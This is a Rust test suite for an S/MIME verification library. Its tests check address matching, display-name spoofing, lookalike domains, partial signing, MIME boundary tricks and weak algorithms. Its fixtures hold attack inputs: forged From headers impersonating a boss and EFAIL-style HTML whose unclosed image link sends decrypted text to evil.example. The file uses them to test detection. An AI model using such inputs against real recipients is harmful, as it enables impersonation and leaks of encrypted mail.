//! The verdict is about what the reader sees: whole or in part, by whom, and whether it calls home.

use std::io::Read as _;

use chancery_cms::{DetachedSigner, SignOptions, SignerKey};
use chancery_crypto::KeyKind;
use chancery_mail::{Index, transfer::Decoder};
use chancery_smime::{Delivered, MemorySpools, OpenFacts, Outcome, danger};
use rcgen::{DnType, OtherNameValue, SanType};

use crate::{
    openssl::OpenSsl,
    support::{AT, Party, mailbox, open_as, person},
};

const FROM: &str = "From: joerg@acme.example\r\n";

fn text(body: &str) -> Vec<u8> {
    format!("Content-Type: text/plain\r\n\r\n{body}\r\n").into_bytes()
}

/// Returns a mail with this entity, under this From.
fn from(author: &str, entity: &[u8]) -> Vec<u8> {
    [format!("From: {author}\r\n").as_bytes(), entity].concat()
}

// --- Who ---

#[test]
fn an_address_in_a_certificate_counts_letter_by_letter() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    for (address, author, result) in [
        ("boss@acme.example", "boss@acme.example", Outcome::Verified),
        ("boss@ACME.example", "Boss <boss@acme.EXAMPLE>", Outcome::Verified),
        ("BOSS@acme.example", "boss@acme.example", Outcome::Unverified),
        ("eve@acme.example boss@acme.example", "boss@acme.example", Outcome::Unverified),
        ("eve@evil.example,boss@acme.example", "boss@acme.example", Outcome::Unverified),
        ("<boss@acme.example>", "boss@acme.example", Outcome::Unverified),
        ("acme.example", "boss@acme.example", Outcome::Unverified),
        ("*@acme.example", "boss@acme.example", Outcome::Unverified),
    ] {
        let signer = person(&acme, &[(DnType::CommonName, "Boss")], vec![mailbox(address)]);
        let message = from(author, &openssl.sign(&signer, &[], &text("pay")));
        let opened = open_as(&globex, &message, &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, result, "{address}: {:#?}", opened.verdict);
    }
}

#[test]
fn cve_2026_2748_white_space_in_a_certificate_s_address_speaks_for_nobody() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    for address in [
        " boss@acme.example",
        "boss@acme.example ",
        "boss @acme.example",
        "boss@ acme.example",
        "boss@acme.example\t",
        "boss@acme.example\n",
        "boss@acme.example\0",
    ] {
        let signer = person(&acme, &[(DnType::CommonName, "Boss")], vec![mailbox(address)]);
        let entity = openssl.sign(&signer, &[], &text("pay"));
        for author in [
            "boss@acme.example",
            "boss @acme.example",
            "\"boss \"@acme.example",
            "boss@acme.example ",
        ] {
            let opened = open_as(&globex, &from(author, &entity), &vec![acme.anchor()]);
            assert_ne!(opened.verdict.result, Outcome::Verified, "{address:?} {author:?}");
        }
    }
}

#[test]
fn a_name_that_shows_another_address_is_not_believed() {
    let globex = Party::globex();
    let (acme, eve) = (Party::acme(), Party::new("Eve", "evil.example", KeyKind::EcP256));
    let openssl = OpenSsl::new();
    let trust = vec![acme.anchor(), eve.anchor()];
    for (party, author, result) in [
        (&eve, "\"boss@acme.example\" <eve@evil.example>", Outcome::Unverified),
        (&eve, "=?utf-8?Q?boss=40acme.example?= <eve@evil.example>", Outcome::Unverified),
        (&eve, "\"boss\u{ff20}acme.example\" <eve@evil.example>", Outcome::Unverified),
        (&eve, "eve@evil.example (boss@acme.example)", Outcome::Unverified),
        (&eve, "\"eve@evil.example, boss@acme.example.\" <eve@evil.example>", Outcome::Unverified),
        (&eve, "(boss@acme.example) Eve <eve@evil.example>", Outcome::Unverified),
        (&eve, "\"{boss@acme.example}\": Eve <eve@evil.example>;", Outcome::Unverified),
        (&eve, "\"boss@acme.example\"@evil.example", Outcome::Unverified),
        (
            &eve,
            "e1@evil.example, e2@evil.example, e3@evil.example, e4@evil.example, \"boss@acme.example\" <e5@evil.example>",
            Outcome::Unverified,
        ),
        (&eve, "\"Eve (Sales)\" <eve@evil.example>", Outcome::Verified),
        (&eve, "\"O'Neil, Jr. (Sales) @ Acme\" <oneil@evil.example>", Outcome::Verified),
        (&eve, "\"EVE@evil.example\" <eve@evil.example>", Outcome::Verified),
        // The organisation speaks for both.
        (&acme, "\"sales@acme.example\" <joerg@acme.example>", Outcome::Verified),
    ] {
        let message = from(author, &openssl.sign(party, &[], &text("pay")));
        let opened = open_as(&globex, &message, &trust);
        assert_eq!(opened.verdict.result, result, "{author}: {:#?}", opened.verdict);
        let is_told = opened.codes().contains(&"smime.from_misleading");
        assert_eq!(is_told, result == Outcome::Unverified, "{author}: {:?}", opened.codes());
    }
}

#[test]
fn a_domain_that_looks_like_another_one_is_named() {
    let (globex, openssl) = (Party::globex(), OpenSsl::new());
    let eve = Party::new("Eve", "xn--cme-5cd.example", KeyKind::EcP256);
    let message = from("Boss <boss@\u{430}cme.example>", &openssl.sign(&eve, &[], &text("pay")));
    let opened = open_as(&globex, &message, &vec![eve.anchor()]);
    // Somebody put this domain into a card and an administrator believed it.
    assert_eq!(opened.verdict.result, Outcome::Verified, "{:#?}", opened.verdict);
    let told = opened.verdict.problems.iter().find(|it| it.code == "smime.from_lookalike");
    assert!(told.unwrap().text.contains("looks like acme.example"));
}

#[test]
fn a_signer_who_is_only_sender_is_not_believed() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let entity = openssl.sign(&acme, &[], &text("pay"));
    let message =
        [b"Sender: joerg@acme.example\r\n", &from("boss@globex.example", &entity)[..]].concat();
    let opened = open_as(&globex, &message, &vec![acme.anchor()]);
    assert_eq!(opened.verdict.result, Outcome::Unverified);
    let told = opened.verdict.problems.iter().find(|it| it.code == "smime.sender_differs");
    assert!(told.unwrap().text.contains("the signer is Sender"), "{:?}", opened.verdict.problems);
}

#[test]
fn a_smtp_utf8_mailbox_is_an_address() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let name = |address: &str| {
        // RFC 9598 section 3: id-on-SmtpUTF8Mailbox.
        SanType::OtherName((
            vec![1, 3, 6, 1, 5, 5, 7, 8, 9],
            OtherNameValue::Utf8String(address.to_owned()),
        ))
    };
    let signer = person(&acme, &[(DnType::CommonName, "J")], vec![name("j\u{f6}rg@acme.example")]);
    let entity = openssl.sign(&signer, &[], &text("hello"));
    for (author, result) in [
        ("j\u{f6}rg@acme.example", Outcome::Verified),
        // The same letter from two characters is another address.
        ("jo\u{308}rg@acme.example", Outcome::Unverified),
        ("jorg@acme.example", Outcome::Unverified),
    ] {
        let opened = open_as(&globex, &from(author, &entity), &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, result, "{author}: {:#?}", opened.verdict);
    }
}

#[test]
fn zammad_5517_the_address_may_be_in_the_alternative_name_only_or_the_subject_only() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let email = DnType::from_oid(&[1, 2, 840, 113_549, 1, 9, 1]);
    for (subject, names) in
        [(vec![], vec![mailbox("boss@acme.example")]), (vec![(email, "boss@acme.example")], vec![])]
    {
        let signer = person(&acme, &subject, names);
        let message = from("boss@acme.example", &openssl.sign(&signer, &[], &text("hello")));
        let opened = open_as(&globex, &message, &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, Outcome::Verified, "{subject:?}: {:#?}", opened.verdict);
    }
}

#[test]
fn several_signers_who_disagree_are_not_believed() {
    let (acme, globex) = (Party::acme(), Party::globex());
    let content = b"Content-Type: text/plain\r\n\r\npay to 1\r\n";
    let other = person(&acme, &[(DnType::CommonName, "J")], vec![mailbox("joerg@acme.example")]);
    let sign = |keys: &[SignerKey], content: &[u8]| {
        let options = SignOptions { signing_time: Some(AT), ..SignOptions::default() };
        let mut signer = DetachedSigner::new(keys, &[], &options).unwrap();
        signer.update(content);
        signer.finish().unwrap()
    };
    let keys = [
        SignerKey::new(acme.signing_key.clone(), acme.signing.der()).unwrap(),
        SignerKey::new(other.signing_key.clone(), other.signing.der()).unwrap(),
    ];
    let both = sign(&keys, content);
    let mail = |der: &[u8]| {
        let armor = base64_simd::STANDARD.encode_to_string(der);
        let content = std::str::from_utf8(content).unwrap();
        format!(
            "{FROM}Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b\r\n\r\n--b\r\n\
             {content}\r\n--b\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n\
             {armor}\r\n--b--\r\n"
        )
    };
    let opened = open_as(&globex, mail(&both).as_bytes(), &vec![acme.anchor()]);
    assert_eq!(opened.verdict.result, Outcome::Verified, "{:#?}", opened.verdict);
    assert_eq!(opened.verdict.signers.len(), 2);
    // The value of one signature is another one's: take the last bytes, which belong to one of the two.
    let mut torn = both;
    let last = torn.len() - 2;
    torn[last] ^= 1;
    let opened = open_as(&globex, mail(&torn).as_bytes(), &vec![acme.anchor()]);
    assert_eq!(opened.verdict.result, Outcome::Unverified, "{:#?}", opened.verdict);
    assert!(opened.codes().contains(&"smime.signers_disagree"), "{:?}", opened.codes());
}

// --- What ---

#[test]
fn the_verdict_names_what_is_signed_and_what_lies_outside() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let signed = String::from_utf8(openssl.sign(&acme, &[], &text("signed"))).unwrap();
    let opaque = String::from_utf8(openssl.sign(&acme, &["-nodetach"], &text("signed"))).unwrap();
    for (what, part) in [("detached", &signed), ("opaque", &opaque)] {
        let message = format!(
            "{FROM}Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n\r\nfrom nobody\r\n--o\r\n{part}\r\n--o\r\n\
             Content-Type: multipart/alternative; boundary=i\r\n\r\n--i\r\n\r\nx\r\n--i\r\n\r\ny\r\n--i--\r\n--o--\r\n"
        );
        let opened = open_as(&globex, message.as_bytes(), &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, Outcome::Unverified, "{what}: {:#?}", opened.verdict);
        assert_eq!(opened.codes(), ["smime.partially_protected"], "{what}");
        let partial = opened.verdict.partial.unwrap();
        assert_eq!(
            (partial.protected, partial.outside),
            (vec!["2".to_owned()], ["1", "3.1", "3.2"].map(str::to_owned).to_vec())
        );
        assert!(opened.verdict.header.covered.is_empty());
        assert!(!opened.verdict.signers[0].covers_content);
    }
}

#[test]
fn the_part_with_the_signature_shows_nothing() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let good = String::from_utf8(from(
        "joerg@acme.example",
        &openssl.sign(&acme, &[], &text("Hello Bob")),
    ))
    .unwrap();
    let label = "Content-Type: application/pkcs7-signature; name=\"smime.p7s\"";
    for (kind, result) in [
        ("application/pkcs7-signature", Outcome::Verified),
        ("application/x-pkcs7-signature", Outcome::Verified),
        ("application/octet-stream; name=smime.p7s", Outcome::Verified),
        ("text/html", Outcome::Unverified),
        ("text/plain; name=smime.p7s", Outcome::Unverified),
        ("image/png", Outcome::Unverified),
        ("message/rfc822", Outcome::Unverified),
        ("application/xhtml+xml; name=smime.p7s", Outcome::Unverified),
    ] {
        let (start, end) = good.rsplit_once(label).unwrap_or_else(|| {
            good.rsplit_once("Content-Type: application/x-pkcs7-signature; name=\"smime.p7s\"")
                .unwrap()
        });
        let message = format!("{start}Content-Type: {kind}{end}");
        let opened = open_as(&globex, message.as_bytes(), &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, result, "{kind}: {:#?}", opened.verdict);
        let is_told = opened.codes().contains(&"smime.signature_malformed");
        assert_eq!(is_told, result != Outcome::Verified, "{kind}: {:?}", opened.codes());
    }
}

/// Every byte there is, with lone CR and LF.
fn picture() -> Vec<u8> {
    (0..=255).chain([13, 13, 10, 10, 13]).collect()
}

#[test]
fn parts_in_binary_are_delivered_byte_for_byte() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let picture = picture();
    let leaf = b"Content-Type: image/jpeg\r\nContent-Transfer-Encoding: binary\r\n\r\n";
    let alone = [&leaf[..], &picture].concat();
    let head = "Content-Type: multipart/mixed; boundary=o\r\nContent-Transfer-Encoding: binary\r\n\r\n--o\r\n\r\nsee\r\n--o\r\n";
    let parts = [head.as_bytes(), leaf, &picture, b"\r\n--o--\r\n"].concat();
    for content in [alone, parts] {
        let opaque = openssl.sign(&acme, &["-nodetach", "-binary"], &content);
        let inside = openssl.encrypt(&globex, &["-binary"], &opaque);
        for entity in [opaque, inside] {
            let message = from("joerg@acme.example", &entity);
            let opened = open_as(&globex, &message, &vec![acme.anchor()]);
            assert_eq!(opened.verdict.result, Outcome::Verified, "{:#?}", opened.verdict);
            assert!(!opened.codes().contains(&"smime.line_endings"), "{:?}", opened.codes());
            let delivered = Index::of(&opened.bytes);
            let part = delivered.parts().last().unwrap();
            let body = part.body.of(&opened.bytes).unwrap();
            let mut decoded = Vec::new();
            Decoder::new(part.transfer_encoding, body).read_to_end(&mut decoded).unwrap();
            assert_eq!(decoded, picture, "{}", opened.text());
        }
    }
}

#[test]
fn words_without_a_header_before_them_are_shown() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    for words in [
        "Dear Bob,\r\n\r\nthe password is x.\r\n",
        "Hello Bob\r\n",
        "Note: one\r\nDear Bob,\r\n\r\ntwo\r\n",
    ] {
        let encrypted = openssl.encrypt(&globex, &[], words.as_bytes());
        let opaque = openssl.sign(&acme, &["-nodetach", "-binary"], words.as_bytes());
        let detached = openssl.sign(&acme, &["-binary"], words.as_bytes());
        for (what, entity, result) in [
            ("encrypted", encrypted, Outcome::Unverified),
            ("opaque", opaque, Outcome::Verified),
            ("detached inside", openssl.encrypt(&globex, &[], &detached), Outcome::Verified),
        ] {
            let opened =
                open_as(&globex, &from("joerg@acme.example", &entity), &vec![acme.anchor()]);
            assert_eq!(opened.verdict.result, result, "{what}: {:#?}", opened.verdict);
            let (_, body) = opened
                .text()
                .split_once("\r\n\r\n")
                .map(|(a, b)| (a.to_owned(), b.to_owned()))
                .unwrap();
            assert!(body.contains(words.trim_end()), "{what}: {}", opened.text());
        }
    }
}

#[test]
fn signed_documents_in_ordinary_mail_are_no_protection_of_it() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let opaque = String::from_utf8(openssl.sign(&acme, &["-nodetach"], b"<xml/>")).unwrap();
    let (_, body) = opaque.split_once("\r\n\r\n").unwrap();
    let part = format!(
        "Content-Type: application/pkcs7-mime; name=\"fattura.xml.p7m\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}"
    );
    for parts in [format!("--o\r\n\r\nsee file\r\n--o\r\n{part}"), format!("--o\r\n{part}")] {
        let message =
            format!("{FROM}Content-Type: multipart/mixed; boundary=o\r\n\r\n{parts}\r\n--o--\r\n");
        let opened = open_as(&globex, message.as_bytes(), &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, Outcome::Unprotected, "{:#?}", opened.verdict);
        assert!(opened.codes().is_empty());
    }
}

#[test]
fn rearranged_parts_do_not_verify() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let content = "Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n\r\nfirst\r\n--i\r\n\r\nsecond\r\n--i--\r\n";
    let good = String::from_utf8(from(
        "joerg@acme.example",
        &openssl.sign(&acme, &[], content.as_bytes()),
    ))
    .unwrap();
    let (first, second) = ("--i\r\n\r\nfirst\r\n", "--i\r\n\r\nsecond\r\n");
    for changed in [
        good.replacen(&format!("{first}{second}"), &format!("{second}{first}"), 1),
        good.replacen(second, "", 1),
        good.replacen(second, &format!("{second}{second}"), 1),
        good.replacen(first, &format!("--i\r\n\r\nzeroth\r\n{first}"), 1),
    ] {
        assert_ne!(changed, good);
        let opened = open_as(&globex, changed.as_bytes(), &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, Outcome::Failed, "{changed}");
    }
}

#[test]
fn a_boundary_with_two_readings_does_not_verify() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let boss = person(&acme, &[(DnType::CommonName, "Boss")], vec![mailbox("boss@acme.example")]);
    let entity = String::from_utf8(openssl.sign(&boss, &[], &text("pay"))).unwrap();
    let start = entity.find("boundary=").unwrap();
    let open = |entity: String| {
        open_as(&globex, &from("boss@acme.example", entity.as_bytes()), &vec![acme.anchor()])
    };
    assert_eq!(open(entity.clone()).verdict.result, Outcome::Verified);
    for other in ["boundary*0=\"evil\"; ", "boundary*=us-ascii''evil; ", "(;boundary=evil) "] {
        let mut changed = entity.clone();
        changed.insert_str(start, other);
        let opened = open(changed);
        assert_eq!(opened.verdict.result, Outcome::Unverified, "{other}: {:#?}", opened.verdict);
    }
    let encoded = format!("Content-Transfer-Encoding: base64\r\n{entity}");
    assert_eq!(open(encoded).verdict.result, Outcome::Unverified);
}

#[test]
fn html_that_calls_home_inside_of_encryption_is_reported() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let html = |body: &str| {
        format!("Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n\r\ntext\r\n--b\r\nContent-Type: text/html\r\n\r\n{body}\r\n--b--\r\n")
            .into_bytes()
    };
    let attack = html("<img src=\"http://evil.example/secret plan");
    let harmless = html("<img src=\"cid:1@acme.example\"> <a href=\"http://acme.example\">us</a>");
    let trust = vec![acme.anchor()];
    let encrypted = |cipher: &str, entity: &[u8]| {
        from("joerg@acme.example", &openssl.encrypt(&globex, &[cipher], entity))
    };
    let codes = |message: &[u8]| {
        let opened = open_as(&globex, message, &trust);
        opened.codes().contains(&"smime.remote_content")
    };
    assert!(codes(&encrypted("-aes256", &attack)));
    assert!(!codes(&encrypted("-aes256", &harmless)));
    assert!(codes(&encrypted("-aes-256-gcm", &attack)));
    assert!(!codes(&encrypted("-aes-256-gcm", &harmless)));
    // A signature inside is proof that the author wrote it so.
    let signed = openssl.sign(&acme, &[], &attack);
    assert!(!codes(&encrypted("-aes256", &signed)));
    assert!(codes(&encrypted(
        "-aes256",
        &openssl.sign(&Party::new("Eve", "evil.example", KeyKind::EcP256), &[], &attack)
    )));
}

#[test]
fn html_is_looked_for_wherever_some_program_sees_it() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let attack = "<img src=\"http://evil.example/\">\r\n";
    let base64 = "PGltZyBzcmM9Imh0dHA6Ly9ldmlsLmV4YW1wbGUvIj4=\r\n";
    for entity in [
        format!("Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n{attack}"),
        format!(
            "Content-Type: text/html\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64}"
        ),
        "Content-Type: text/html\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 x\r\n"
            .to_owned(),
        format!(
            "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64}"
        ),
        format!(
            "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/plain\r\nContent-Type: text/html\r\n\r\n{attack}\r\n--o--\r\n"
        ),
    ] {
        let sealed = openssl.encrypt(&globex, &["-aes256", "-binary"], entity.as_bytes());
        let opened = open_as(&globex, &from("joerg@acme.example", &sealed), &vec![acme.anchor()]);
        assert!(opened.codes().contains(&"smime.remote_content"), "{entity}: {:?}", opened.codes());
    }
}

#[test]
fn what_is_fetched_from_elsewhere_is_signed_by_nobody() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let pointer = "Content-Type: message/external-body; access-type=URL; URL=\"http://evil.example/\"\r\n\r\n\
         Content-Type: text/html\r\nContent-ID: <1@acme.example>\r\n\r\n";
    let partial = "Content-Type: message/partial; id=\"1@acme.example\"; number=1; total=2\r\n\r\nSubject: a\r\n\r\nb\r\n";
    let mixed = |part: &str| {
        format!(
            "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nhello\r\n--m\r\n{part}\r\n--m--\r\n"
        )
    };
    for entity in [pointer.to_owned(), partial.to_owned(), mixed(pointer), mixed(partial)] {
        let message =
            from("joerg@acme.example", &openssl.sign(&acme, &["-binary"], entity.as_bytes()));
        let opened = open_as(&globex, &message, &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, Outcome::Unverified, "{entity}: {:#?}", opened.verdict);
        assert!(opened.codes().contains(&"smime.partially_protected"), "{:?}", opened.codes());
        // Without a signature it is nobody's business.
        let plain = open_as(&globex, &from("joerg@acme.example", entity.as_bytes()), &vec![]);
        assert_eq!((plain.verdict.result, plain.codes().len()), (Outcome::Unprotected, 0));
    }
}

#[test]
fn a_signature_that_cannot_be_checked_is_not_called_wrong() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let message = from("joerg@acme.example", &openssl.sign(&acme, &["-nocerts"], &text("hello")));
    // The authority's certificate is in it, the signer's is not.
    let opened = open_as(&globex, &message, &vec![acme.anchor()]);
    assert_eq!(opened.verdict.result, Outcome::Unverified, "{:#?}", opened.verdict);
    assert_eq!(opened.codes(), ["smime.signature_unchecked"]);
    assert!(opened.verdict.authentication_results("g.example").contains("smime=neutral"));
}

#[test]
fn a_signature_on_a_curve_that_is_not_known_does_no_harm() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let curve = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:brainpoolP256r1"];
    let own = ["-nodes", "-subj", "/CN=Brain", "-keyout", "brain.key", "-out", "brain.pem"];
    openssl.run(&[&["req", "-x509"][..], &curve, &own].concat(), b"");
    let brain = ["cms", "-sign", "-signer", "brain.pem", "-inkey", "brain.key", "-binary"];
    let alone = openssl.run(&brain, &text("hello"));
    let open =
        |entity: &[u8]| open_as(&globex, &from("joerg@acme.example", entity), &vec![acme.anchor()]);
    let opened = open(&alone);
    assert_eq!(opened.verdict.result, Outcome::Unverified, "{:#?}", opened.verdict);
    assert_eq!(opened.codes(), ["smime.signature_unchecked"]);
    // The content is still looked at: no algorithm hides that it was changed.
    let changed = String::from_utf8(alone.clone()).unwrap().replace("hello", "jello");
    assert_eq!(open(changed.as_bytes()).verdict.result, Outcome::Failed);
    // Nor is it withheld because a cipher without authentication was around it.
    for (cipher, options) in
        [("-aes256", &[][..]), ("-aes-256-gcm", &[]), ("-aes256", &["-nocerts"])]
    {
        let signed = if options.is_empty() {
            alone.clone()
        } else {
            openssl.sign(&acme, options, &text("hello"))
        };
        let opened = open(&openssl.encrypt(&globex, &[cipher], &signed));
        assert_eq!(opened.verdict.result, Outcome::Unverified, "{cipher}: {:#?}", opened.verdict);
        assert!(opened.text().contains("hello"), "{cipher}");
    }
    // Beside a right one it does not count.
    let both =
        openssl.sign(&acme, &["-signer", "brain.pem", "-inkey", "brain.key"], &text("hello"));
    let opened = open(&both);
    assert_eq!(opened.verdict.result, Outcome::Verified, "{:#?}", opened.verdict);
}

#[test]
fn weak_digests_count_for_old_mail_only() {
    let (globex, openssl) = (Party::globex(), OpenSsl::new());
    // OpenSSL makes no MD5 with elliptic curves.
    let acme = Party::new("Acme", "acme.example", KeyKind::Rsa2048);
    for digest in ["sha1", "md5"] {
        let message =
            from("joerg@acme.example", &openssl.sign(&acme, &["-md", digest], &text("hello")));
        let today = open_as(&globex, &message, &vec![acme.anchor()]);
        assert_eq!(today.verdict.result, Outcome::Unverified, "{digest}: {:#?}", today.verdict);
        assert!(today.codes().contains(&"smime.weak_algorithm"));
        let our_domains = ["globex.example".to_owned()];
        let old = danger::open_old_mail(
            &mut std::io::Cursor::new(&message),
            &[],
            &vec![acme.anchor()],
            &OpenFacts { at: AT, our_domains: &our_domains },
            &mut MemorySpools::new(1 << 20),
            &mut Vec::new(),
        )
        .unwrap();
        assert_eq!(old.verdict.result, Outcome::Verified, "{digest}: {:#?}", old.verdict);
        assert!(old.verdict.problems.iter().any(|problem| problem.code == "smime.weak_algorithm"));
    }
}

#[test]
fn a_bad_signature_is_never_helped_by_a_stranger_s_good_one() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let inner = String::from_utf8(openssl.sign(&acme, &[], &text("pay to 1"))).unwrap();
    let changed = inner.replace("pay to 1", "pay to 2");
    let eve = Party::new("Eve", "evil.example", KeyKind::EcP256);
    let outer = openssl.sign(&eve, &[], changed.as_bytes());
    let opened =
        open_as(&globex, &from("joerg@acme.example", &outer), &vec![acme.anchor(), eve.anchor()]);
    assert_eq!(opened.verdict.result, Outcome::Failed, "{:#?}", opened.verdict);
    assert_eq!(opened.delivered, Delivered::AsReceived);
}
